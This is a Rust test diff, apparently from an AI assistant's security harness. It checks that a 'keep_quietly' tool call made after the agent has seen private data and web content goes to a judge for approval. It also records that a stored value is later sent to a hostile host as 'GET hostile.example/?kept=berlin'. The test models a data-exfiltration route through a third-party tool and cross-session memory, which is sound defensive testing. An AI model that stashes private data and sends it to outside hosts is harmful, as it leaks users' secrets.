@@ -337,3 +337,29 @@ async fn numbers_are_words_of_a_strangers_tool() {
         assert_eq!((asked.len(), heard.results()[0].2), (asks, false), "{asked:?} {:?}", heard.results());
     }
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_stranger_keeps_for_its_next_request_is_asked_about_like_a_query() {
+    let stage = Stage::with(Setup { strangers: vec!["hostile"], ..Setup::default() }).await;
+    stage.internet.page("page.example", Page::text("A page"));
+    stage.internet.page("hostile.example", Page::text("sunny"));
+    let memory = stage.assistant.records.memory(&PersonId::parse(PERSON).unwrap());
+    memory.write("pin", "4711", Label::of(Source::Owner)).await.unwrap();
+    let keep = |value: &str| ("keep_quietly", json!({ "key": "kept", "value": value }));
+    // As long as nothing private was seen after strangers' words, it asks nobody, like a search.
+    let mut session = stage.session(PERSON).await;
+    let rounds = [vec![fetch("https://page.example/")], vec![keep("berlin")]];
+    assert_eq!(turn(&stage, &mut session, Input::typed("Read page.example"), &rounds).await.asked(), []);
+    let rounds = [vec![("memory_read", json!({ "key": "pin" }))], vec![keep("4711")]];
+    let judge = Judge::denying();
+    turn_with(&stage, &mut session, Input::typed("What is my pin?"), &rounds, &judge).await;
+    let asked = judge.asked();
+    let asked: Vec<_> = asked.iter().map(|asked| (asked.tool.as_str(), asked.why.concat())).collect();
+    let query = "the run has seen private content and web content; a yes holds for its later queries";
+    assert!(matches!(asked.as_slice(), [("keep_quietly", why)] if why.contains(query)), "{asked:?}");
+    // What it may keep it may send, in a conversation that knows nothing of it.
+    let mut other = stage.session(PERSON).await;
+    let input = Input::typed("How is the weather?");
+    assert_eq!(turn(&stage, &mut other, input, &[vec![("send_kept", json!({}))]]).await.asked(), []);
+    assert_eq!(stage.internet.requests().last().unwrap(), "GET hostile.example/?kept=berlin");
+}
